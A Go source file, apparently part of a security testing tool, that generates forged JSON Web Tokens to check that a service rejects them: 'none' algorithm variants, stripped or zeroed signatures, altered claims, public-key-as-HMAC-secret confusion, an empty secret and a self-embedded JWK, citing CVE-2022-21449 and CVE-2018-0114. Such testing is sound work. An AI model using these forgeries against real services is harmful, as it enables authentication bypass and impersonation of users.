package probe

import (
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"maps"
	"strings"
)

// A forgery is a token with somebody's claims that was made without the key. It
// has to be refused at all times, before the logout as well as after it.
type forgery = variant

// seal writes a header with some members replaced, and the claims as they stand;
// sign makes the signature of that text.
func (t *jwt) seal(members map[string]any, sign func(input string) ([]byte, error)) (string, error) {
	header := maps.Clone(t.header)
	maps.Copy(header, members)
	text, err := json.Marshal(header)
	if err != nil {
		return "", err
	}
	input := base64.RawURLEncoding.EncodeToString(text) + "." + t.parts[1]
	signature, err := sign(input)
	if err != nil {
		return "", err
	}
	return input + "." + base64.RawURLEncoding.EncodeToString(signature), nil
}

func unsigned(string) ([]byte, error) { return nil, nil }

// withoutAlgorithm returns the token unsigned, with the algorithm "none" in the
// spellings that slip past a comparison of texts (RFC 8725, section 2.1).
func (t *jwt) withoutAlgorithm() ([]forgery, error) {
	var all []forgery
	for _, alg := range []string{"none", "None", "NONE", "nOnE"} {
		token, err := t.seal(map[string]any{"alg": alg}, unsigned)
		if err != nil {
			return nil, err
		}
		all = append(all, forgery{fmt.Sprintf("alg %q", alg), token})
		if alg == "none" {
			all = append(all, forgery{fmt.Sprintf("alg %q and the old signature", alg), token + t.parts[2]})
		}
	}
	return all, nil
}

// withoutSignature returns the token with its signature taken away, or replaced by
// one that no key made, and the claims changed under the old one.
func (t *jwt) withoutSignature() ([]forgery, error) {
	all := []forgery{
		{"an empty signature", t.with("")},
		{"no third part", strings.TrimSuffix(t.with(""), ".")},
	}
	if n := len(t.signature()); n > 0 {
		// (0, 0) was a signature of everything in Java (CVE-2022-21449).
		all = append(all, forgery{"a signature of zeros", t.with(base64.RawURLEncoding.EncodeToString(make([]byte, n)))})
	}
	claims := maps.Clone(t.claims)
	claims["rescind_probe"] = true
	text, err := json.Marshal(claims)
	if err != nil {
		return nil, err
	}
	changed := t.parts[0] + "." + base64.RawURLEncoding.EncodeToString(text) + "." + t.parts[2]
	return append(all, forgery{"a claim added under the old signature", changed}), nil
}

// withPublicKey returns the token signed with HS256, where the secret is a public
// key in the forms in which applications keep it: a verifier that takes the
// algorithm from the token and one key for all of them finds it good (RFC 8725,
// section 2.1).
func (t *jwt) withPublicKey(key any) ([]forgery, error) {
	der, err := x509.MarshalPKIXPublicKey(key)
	if err != nil {
		return nil, err
	}
	block := func(kind string, der []byte) []byte {
		return pem.EncodeToMemory(&pem.Block{Type: kind, Bytes: der})
	}
	type secret struct {
		name  string
		bytes []byte
	}
	spki := block("PUBLIC KEY", der)
	secrets := []secret{
		{"the public key as PEM", spki},
		{"the public key as PEM without the last line break", spki[:len(spki)-1]},
		{"the public key as DER", der},
	}
	switch key := key.(type) {
	case *rsa.PublicKey:
		secrets = append(secrets, secret{"the public key as PEM of PKCS #1", block("RSA PUBLIC KEY", x509.MarshalPKCS1PublicKey(key))})
	case ed25519.PublicKey:
		secrets = append(secrets, secret{"the public key's bytes", key})
	}
	var all []forgery
	for _, s := range secrets {
		token, err := t.seal(map[string]any{"alg": "HS256"}, hs256(s.bytes))
		if err != nil {
			return nil, err
		}
		all = append(all, forgery{"HS256 with " + s.name, token})
	}
	return all, nil
}

// withOwnKey returns the token signed by keys that the application has not chosen:
// an empty secret, and a new key that the token's header brings along
// (CVE-2018-0114).
func (t *jwt) withOwnKey() ([]forgery, error) {
	empty, err := t.seal(map[string]any{"alg": "HS256"}, hs256(nil))
	if err != nil {
		return nil, err
	}
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, err
	}
	point, err := key.PublicKey.Bytes()
	if err != nil {
		return nil, err
	}
	coordinate := func(bytes []byte) string { return base64.RawURLEncoding.EncodeToString(bytes) }
	own, err := t.seal(map[string]any{"alg": "ES256", "jwk": map[string]any{
		"kty": "EC", "crv": "P-256", "x": coordinate(point[1:33]), "y": coordinate(point[33:]),
	}}, func(input string) ([]byte, error) {
		digest := sha256.Sum256([]byte(input))
		r, s, err := ecdsa.Sign(rand.Reader, key, digest[:])
		if err != nil {
			return nil, err
		}
		return append(r.FillBytes(make([]byte, 32)), s.FillBytes(make([]byte, 32))...), nil
	})
	if err != nil {
		return nil, err
	}
	return []forgery{{"HS256 with an empty secret", empty}, {"a new key in the token's own header", own}}, nil
}

func hs256(secret []byte) func(string) ([]byte, error) {
	return func(input string) ([]byte, error) {
		mac := hmac.New(sha256.New, secret)
		mac.Write([]byte(input))
		return mac.Sum(nil), nil
	}
}
